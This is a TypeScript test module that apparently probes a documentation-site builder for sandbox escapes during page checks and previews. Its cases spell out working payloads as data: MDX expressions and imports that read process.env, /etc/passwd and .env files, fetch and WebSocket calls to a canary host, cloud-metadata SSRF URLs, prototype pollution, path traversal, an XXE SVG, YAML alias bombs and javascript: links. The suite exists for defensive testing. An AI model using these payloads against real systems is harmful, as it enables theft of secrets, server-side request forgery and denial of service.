/** Attacks through site content, which is loaded, compiled and rendered when it is checked and previewed. */
import { type Attack, type Call, call, pageOf, type Targets, write } from './attack.ts'

const check = call('check', {})
const preview = (path: string) => call('preview', { path })

export function contentAttacks({ canary, outside }: Targets): Attack[] {
  /** Writes the pages, checks them together and previews the first `shown`. */
  const pages = (name: string, shown: number, ...texts: string[]): Attack => {
    const files = texts.map((_, index) => `attack-${index}.mdx`)
    const written = texts.map((text, index) =>
      write(files[index] as string, text.startsWith('---') ? text : pageOf(text)),
    )
    return { name, steps: [written, [check], files.slice(0, shown).map(preview)] }
  }
  const files = (name: string, ...calls: Call[]): Attack => ({ name, steps: [[...calls, check]] })
  /** Inserts each text into docs.json, before most of its settings, and removes it again after a preview. */
  const settings = (name: string, ...texts: string[]): Attack => ({
    name,
    steps: texts.map((text) => [
      call('edit_file', { path: 'docs.json', oldText: '"name": "Tea",', newText: `"name": "Tea", ${text},` }),
      preview('index.mdx'),
      call('edit_file', { path: 'docs.json', oldText: `"name": "Tea", ${text},`, newText: '"name": "Tea",' }),
    ]),
  })
  return [
    pages(
      'expressions that want the environment',
      4,
      '{process.env.OCTAVO_SECRET} {JSON.stringify(process.env)}',
      '{globalThis.process?.env?.DATABASE_URL} {typeof process} {Object.keys(globalThis).join(" ")}',
      '{this?.constructor?.constructor("return process")().env}',
      '{(() => {}).constructor("return typeof process + JSON.stringify(globalThis.process?.env)")()}',
    ),
    pages(
      'modules of Node',
      5,
      'import { readFileSync } from "node:fs"\n\n{readFileSync("/etc/passwd", "utf8")}',
      'import fs from "fs"\n\n{fs.readFileSync("../.env", "utf8")}',
      '{require("node:child_process").execSync("env").toString()}',
      'export const text = await import("node:fs").then((fs) => fs.readFileSync("/proc/self/environ", "utf8"))\n\n{text}',
      'export const x = (() => { try { return require("fs") } catch (error) { return error.stack } })()\n\n{x}',
    ),
    pages(
      'calls to other places',
      2,
      `{fetch("${canary}/fetch").then((answer) => answer.text())}`,
      `export const x = new XMLHttpRequest()\n\n{(x.open("GET", "${canary}/xhr", false), x.send(), x.responseText)}`,
      `export const y = new WebSocket("${canary.replace('http', 'ws')}/socket")\n\n{String(y)}`,
      `{import("${canary}/module.js")}`,
      `import x from "${canary}/module.js"\n\n{x}`,
    ),
    pages(
      'loops and floods',
      1,
      '{(() => { for (;;) {} })()}',
      '{(() => { const kept = []; for (;;) kept.push(new Array(1e6).fill("x")) })()}',
      '{"x".repeat(2 ** 28)}',
    ),
    pages(
      'prototypes',
      3,
      '{(() => { Object.prototype.polluted = "pwned"; Array.prototype.map = () => "pwned"; return 1 })()}',
      '{(() => { globalThis.JSON = { stringify: () => "pwned" }; String.prototype.replace = () => "pwned" })()}',
      '{(() => { throw { toString() { return globalThis.process?.env } } })()}',
    ),
    pages(
      'imports from outside',
      3,
      'import Secret from "../internal/page.mdx"\n\n<Secret />',
      'import Secret from "/../internal/page.mdx"\n\n<Secret />',
      'import Secret from "/snippets/../../internal/page.mdx"\n\n<Secret />',
      'import data from "../internal/secret.json"\n\n{JSON.stringify(data)}',
      `import Secret from "${outside}/page.mdx"\n\n<Secret />`,
      'import Secret from "./link-folder/page.mdx"\n\n<Secret />',
      'import Secret from "file:///etc/passwd"\n\n<Secret />',
      'import text from "./.env"\n\n{text}',
    ),
    pages(
      'pictures and frames from elsewhere',
      1,
      `![x](${canary}/picture.png) <img src="${canary}/img.png" /> <iframe src="${canary}/frame"></iframe>`,
      `<script src="${canary}/script.js"></script>\n\n<link rel="stylesheet" href="${canary}/style.css" />`,
      '![x](../internal/secrets.env) ![y](/etc/passwd) ![z](file:///etc/passwd) ![w](/../internal/secret.json)',
      `<Frame><img src="http://169.254.169.254/latest/meta-data/" /></Frame> <video src="${canary}/film.mp4" />`,
      '![x](.env) ![y](link-file.md) <a href="javascript:alert(1)" download="/etc/passwd">x</a>',
    ),
    pages(
      'code, math and diagrams that include files',
      2,
      '```sh file=../internal/secrets.env\n```\n\n```js src="/etc/passwd" include="../.env"\n```',
      '$$\\input{/etc/passwd} \\includegraphics{../.env} \\href{javascript:alert(1)}{x}$$',
      '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\nflowchart\nA-->B\nclick A href "javascript:alert(1)"\n```',
      '<include src="../internal/secrets.env" /> <Snippet file="../../internal/page.mdx" />',
      '{{OCTAVO_SECRET}} {{process.env}} {{__proto__}} {{constructor}}',
    ),
    pages(
      'frontmatter that leads away',
      2,
      `---\ntitle: X\ndescription: X\nopenapi: "${canary}/openapi.json GET /x"\n---\n`,
      '---\ntitle: X\ndescription: X\nopenapi: "../internal/openapi.yaml GET /x"\n---\n',
      '---\ntitle: X\ndescription: X\nurl: "http://169.254.169.254/latest/meta-data/"\n---\n',
      `---\ntitle: X\ndescription: X\n"og:image": "${canary}/x.png"\nicon: "../internal/icon.svg"\n---\nText.`,
      '---\ntitle: !!js/function "function () { return process.env }"\n---\nText.',
      '---\n__proto__: { polluted: pwned }\ntitle: [a, {b: c}]\nconstructor: x\n---\nText.',
      `---\na: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b]\n---\nText.`,
    ),
    files(
      'descriptions of interfaces that lead away',
      write('attack.yaml', openapi(`$ref: "${canary}/schema.yaml"`)),
      write('attack2.yaml', openapi('$ref: "../internal/openapi.yaml#/components"')),
      write('attack3.yaml', openapi('$ref: "file:///etc/passwd"')),
      write('attack4.yaml', openapi('$ref: "http://169.254.169.254/latest/meta-data/"')),
      ...[1, 2, 3, 4].map((number) =>
        write(
          `attack${number}.mdx`,
          `---\ntitle: X\nopenapi: "attack${number === 1 ? '' : number}.yaml GET /x"\n---\n`,
        ),
      ),
      preview('attack1.mdx'),
      preview('attack2.mdx'),
      preview('attack3.mdx'),
      preview('attack4.mdx'),
    ),
    settings(
      'settings from outside',
      '"$ref": "../internal/secret.json"',
      '"$ref": "/etc/passwd"',
      '"$ref": "file:///proc/self/environ"',
      `"$ref": "${canary}/docs.json"`,
      '"navbar": { "$ref": "../internal/secret.json" }',
      '"footer": { "$ref": "link-folder/secret.json" }',
      '"footer": { "$ref": ".env" }',
    ),
    settings(
      'settings that call',
      `"api": { "openapi": "${canary}/openapi.json" }`,
      '"api": { "openapi": "http://169.254.169.254/latest/meta-data/" }',
      '"api": { "openapi": ["http://localhost:1/x.json", "http://[::1]:1/x.json", "../internal/openapi.yaml"] }',
      `"logo": "${canary}/logo.svg", "favicon": "../../../etc/passwd"`,
      `"fonts": { "family": "X", "source": "${canary}/font.woff2" }`,
      `"background": { "image": "${canary}/back.png" }`,
    ),
    settings(
      'settings that are no settings',
      '"__proto__": { "polluted": "pwned" }',
      '"constructor": { "prototype": { "polluted": "pwned" } }',
      '"redirects": [{ "source": "/x", "destination": "javascript:alert(1)" }]',
      '"redirects": [{ "source": "/../../x", "destination": "//evil.example" }]',
      '"variables": { "__proto__": "x", "a": "{{a}}" }',
    ),
    {
      name: 'navigation by names of objects',
      steps: [
        [
          navigation({ operation: 'add_group', name: '__proto__', within: [] }),
          navigation({ operation: 'rename_group', from: ['__proto__'], name: 'constructor' }),
          navigation({ operation: 'add_page', page: 'index', within: ['constructor'] }),
          navigation({ operation: 'show', within: ['toString'] }),
          navigation({ operation: 'add_group', name: '<img src=x onerror=alert(1)>', within: [] }),
          call('update_navigation', JSON.parse('{"operation":"show","__proto__":{"within":["x"]}}')),
          navigation({ operation: 'remove_group', from: ['constructor'] }),
        ],
      ],
    },
    {
      name: 'pages of the navigation outside',
      steps: [
        [
          '../internal/page',
          '/etc/passwd',
          '//evil.example/x',
          'https://evil.example',
          'javascript:alert(1)',
          'link-folder/page',
          '.env',
          '__proto__',
        ].map((page) => navigation({ operation: 'add_page', page, within: [] })),
      ],
      isRefused: true,
    },
    files(
      'styles and scripts of the site',
      write(
        'style.css',
        `@import url(${canary}/style.css);\nbody { background: url(/../internal/secrets.env) }`,
      ),
      write('script.js', `fetch("${canary}/script"); document.title = document.cookie`),
      write('theme.css', 'a { background: url(file:///etc/passwd) } @import "../internal/secrets.env";'),
    ),
    files(
      'pictures that read files',
      write(
        'attack.svg',
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary}/svg')"><script>1</script><text>&x;</text><image href="${canary}/image"/></svg>`,
      ),
      write('attack.mdx', pageOf('![x](attack.svg)')),
      preview('attack.mdx'),
    ),
  ]
}

function navigation(input: object): Call {
  return call('update_navigation', input)
}

function openapi(schema: string): string {
  return `openapi: 3.1.0
info: { title: X, version: "1" }
paths:
  /x:
    get:
      responses:
        "200":
          description: ok
          content:
            application/json:
              schema:
                ${schema}
`
}
